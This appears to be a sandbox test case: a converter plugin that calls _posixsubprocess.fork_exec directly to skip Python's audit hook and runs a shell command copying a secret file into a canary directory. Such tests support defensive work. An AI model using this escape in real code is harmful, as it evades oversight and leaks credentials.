# escape: import _posixsubprocess and call fork_exec directly, skipping subprocess' audit event
# layer: audit-hook, seccomp
# args: --skip-validation --max-procs 4
# expect: security
import os


class Converter:
    def convert_file(self, file_path, args):
        try:
            import _posixsubprocess
            r, w = os.pipe()
            cmd = f"cat '{args['secret']}' > '{args['canary_dir']}/pwn'"
            pid = _posixsubprocess.fork_exec(
                [b"/bin/sh", b"-c", cmd.encode()], [b"/bin/sh"], True, (), None, None,
                -1, -1, -1, -1, -1, -1, r, w, True, False, -1, None, None, None, -1, None, False)
            os.waitpid(pid, 0)
            return {"status": "Success", "report": {"pid": pid}}
        except Exception as e:
            return {"status": "Failed", "report": {"error": repr(e)}}
